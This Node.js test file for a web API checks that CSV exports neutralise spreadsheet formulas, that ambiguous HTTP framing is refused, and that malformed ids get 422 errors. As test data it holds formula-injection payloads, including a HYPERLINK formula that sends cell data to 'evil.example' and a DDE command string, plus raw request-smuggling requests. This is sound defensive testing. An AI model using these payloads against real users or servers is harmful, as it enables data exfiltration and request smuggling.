// Bad input at the edges (issue #10): CSV exports that a spreadsheet cannot run as formulas and a
// UTF-8 BOM on request, HTTP framing refused per RFC 9112 (raw sockets), and ids in bodies that
// are 0, negative, fractional, strings or too large answered 422, never 5xx. SQLite and PostgreSQL.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import net from 'node:net';
import { startServer, fixtureOrg, expectError, PASSWORD } from '../support/trellis.js';

const org = fixtureOrg();
let srv;
const as = {};
const ids = {};

before(async () => {
  srv = await startServer({ people: org.csv, users: org.users });
  for (const [k, email] of Object.entries(org.byKey)) as[k] = await srv.login(email, PASSWORD);
  for (const p of (await as.hr.get('/api/v1/people?limit=200')).json.items) ids[p.email] = p.id;
  for (const [k, email] of Object.entries(org.byKey)) ids[k] = ids[email];
});
after(async () => { await srv?.stop(); });

test('a journal exported as CSV shows formulas as text, and offers a BOM', async () => {
  const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(A1:A9)'];
  for (const [i, title] of evil.entries()) {
    const r = await as.report.post('/api/v1/accomplishments', { happened_on: `2026-01-0${i + 1}`, title, impact: '=cmd|"/c calc"!A0', challenges: i ? '\rReturn' : '\tTabbed' });
    assert.equal(r.status, 201, r.text);
  }
  assert.equal((await as.report.post('/api/v1/accomplishments', { happened_on: '2026-02-01', title: 'a=b is fine', impact: 'Ōtsuka 🙂' })).status, 201);
  const token = srv.cli(['user', 'token', '--email', org.byKey.report]).stdout.trim();
  const raw = async (q) => {
    const res = await fetch(`${srv.base}/api/v1/accomplishments/export?format=csv${q}`, { headers: { authorization: `Bearer ${token}` } });
    return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()), type: res.headers.get('content-type') };
  };
  const plain = await raw('');
  assert.equal(plain.status, 200);
  assert.match(plain.type, /text\/csv/);
  assert.notDeepEqual([...plain.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'no BOM unless asked');
  const text = plain.bytes.toString('utf8');
  // every cell is quoted; a cell starting with = + - @ TAB CR starts with an apostrophe instead
  for (const cell of text.matchAll(/(?:^|,)"((?:[^"]|"")*)"/gm)) assert.doesNotMatch(cell[1], /^[=+\-@\t\r]/, `unsafe cell ${JSON.stringify(cell[1])}`);
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), text);
  for (const t of ["'+1+2", "'-3+4", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturn", `'=cmd|""/c calc""!A0`]) assert.ok(text.includes(`"${t}"`), `${JSON.stringify(t)} in ${text}`);
  assert.ok(text.includes('"a=b is fine"') && text.includes('"Ōtsuka 🙂"'), 'ordinary text and Unicode untouched');
  const withBom = await raw('&bom=true');
  assert.equal(withBom.status, 200);
  assert.deepEqual([...withBom.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM first');
  assert.equal(withBom.bytes.subarray(3).toString('utf8'), text, 'then the same file');
  assert.notDeepEqual([...(await raw('&bom=false')).bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  expectError(assert, await as.report.get('/api/v1/accomplishments/export?format=csv&bom=maybe'), 422, 'validation_failed');
});

/** Sends raw bytes on a fresh connection; resolves with what came back and whether the server closed. */
function rawHttp(bytes) {
  const url = new URL(srv.base);
  return new Promise((resolve, reject) => {
    const s = net.connect(Number(url.port), url.hostname);
    let data = '';
    const timer = setTimeout(() => { s.destroy(); resolve({ data, closed: false }); }, 3000);
    s.on('connect', () => s.write(bytes));
    s.on('data', (d) => { data += d.toString('latin1'); });
    s.on('end', () => { clearTimeout(timer); s.destroy(); resolve({ data, closed: true }); });
    s.on('close', () => { clearTimeout(timer); resolve({ data, closed: true }); });
    s.on('error', (e) => { clearTimeout(timer); if (data) resolve({ data, closed: true }); else reject(e); });
  });
}

test('ambiguous HTTP framing is refused with a JSON 400 and the connection closed (RFC 9112)', async () => {
  const host = `Host: ${new URL(srv.base).host}\r\n`;
  const body = '{"email":"x@example.com","password":"nope"}';
  const cases = {
    'Content-Length and Transfer-Encoding': `POST /api/v1/session HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
    'two different Content-Length values': `POST /api/v1/session HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${body.length}\r\nContent-Length: 5\r\n\r\n${body}`,
    'whitespace before a colon': `GET /api/v1/me HTTP/1.1\r\n${host}Accept : application/json\r\n\r\n`,
    'tab before a colon': `GET /api/v1/me HTTP/1.1\r\n${host}Cookie\t: x=y\r\n\r\n`,
  };
  for (const [name, req] of Object.entries(cases)) {
    // then a second request on the same connection: it must not be answered (no smuggling)
    const r = await rawHttp(req + `GET /healthz HTTP/1.1\r\n${host}\r\n`);
    assert.match(r.data, /^HTTP\/1\.1 400 /, `${name}: ${r.data.slice(0, 300)}`);
    assert.match(r.data, /"code"\s*:\s*"bad_request"/, `${name}: a JSON error: ${r.data.slice(0, 400)}`);
    assert.equal((r.data.match(/HTTP\/1\.1 /g) || []).length, 1, `${name}: nothing answered after the refusal`);
    assert.ok(r.closed, `${name}: connection closed`);
  }
  // what is well framed still works, on a kept-alive connection too
  const ok = await rawHttp(`GET /healthz HTTP/1.1\r\n${host}\r\nGET /healthz HTTP/1.1\r\n${host}Connection: close\r\n\r\n`);
  assert.equal((ok.data.match(/HTTP\/1\.1 200 /g) || []).length, 2, ok.data.slice(0, 500));
  const same = await rawHttp(`POST /api/v1/session HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
  assert.match(same.data, /^HTTP\/1\.1 (401|422|429) /, same.data.slice(0, 200));
  const chunked = await rawHttp(`POST /api/v1/session HTTP/1.1\r\n${host}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`);
  assert.match(chunked.data, /^HTTP\/1\.1 (401|422|429) /, chunked.data.slice(0, 200));
});

test('ids in bodies that are 0, negative, fractional, strings or too large answer 422, never 5xx', async () => {
  assert.equal((await as.self.post('/api/v1/feedback', { recipient_id: ids.peer, kind: 'praise', body: 'Great demo' })).status < 300, true, 'a real recipient works');
  for (const bad of [0, -1]) {
    const r = await as.self.post('/api/v1/feedback', { recipient_id: bad, kind: 'praise', body: 'x' });
    expectError(assert, r, 422, 'validation_failed');
    assert.ok(r.json.error.fields?.recipient_id, r.text);
  }
  const big = await as.self.req('POST', '/api/v1/feedback', `{"recipient_id": 99999999999999999999999, "kind": "praise", "body": "x"}`);
  expectError(assert, big, 422, 'validation_failed');
  // every write route, every id-like field the handlers accept, every bad value: never a 5xx
  const spec = (await as.admin.get('/api/v1/openapi.json')).json;
  const routes = Object.entries(spec.paths).flatMap(([p, ops]) => ['post', 'put', 'patch'].filter((m) => ops[m]).map((m) => [m.toUpperCase(), p]));
  const { readFileSync, readdirSync } = await import('node:fs');
  const idFields = [...new Set(readdirSync('src/api').filter((f) => f.endsWith('.c')).flatMap((f) => [...readFileSync(`src/api/${f}`, 'utf8').matchAll(/"([a-z_]*_ids?)"/g)].map((m) => m[1])))];
  assert.ok(idFields.length >= 15, idFields.join());
  const values = [0, -1, 2 ** 62];
  const failures = [];
  let n = 0;
  for (const [method, pattern] of routes) {
    // sign-in, and SCIM (its own token, its own error shape: tests/api/scim.test.js)
    if (pattern === '/api/v1/session' || pattern.startsWith('/scim/')) continue;
    const path = pattern.replace(/\{[a-z_]+\}/g, '1');
    // the fields one route accepts all at once, each bad value in turn
    for (const v of values) {
      const body = Object.fromEntries(idFields.map((f) => [f, f.endsWith('_ids') ? [v] : v]));
      for (const f of idFields) {
        const r = await as.manager.req(method, path, { [f]: body[f] });
        n++;
        if (r.status >= 500) failures.push(`${method} ${path} ${JSON.stringify({ [f]: body[f] })} -> ${r.status} ${r.text.slice(0, 120)}`);
        else if (r.status >= 400 && !r.json?.error?.code) failures.push(`${method} ${path} -> ${r.status} without a JSON error`);
      }
    }
    if (!pattern.includes('{')) continue;
    for (const pathId of ['0', '-1', '1.5', 'x', '99999999999999999999']) {
      const bad = pattern.replace(/\{[a-z_]+\}/g, pathId);
      const r = await as.manager.req(method, bad, {});
      n++;
      if (r.status >= 500) failures.push(`${method} ${bad} {} -> ${r.status}`);
      else if (![403, 404, 405, 422].includes(r.status)) failures.push(`${method} ${bad} {} -> ${r.status}: a bad path id names nothing`);
    }
  }
  assert.deepEqual(failures, [], `${failures.length} of ${n}`);
  const me = await as.self.get('/api/v1/me');
  assert.equal(me.status, 200, 'still serving');
});
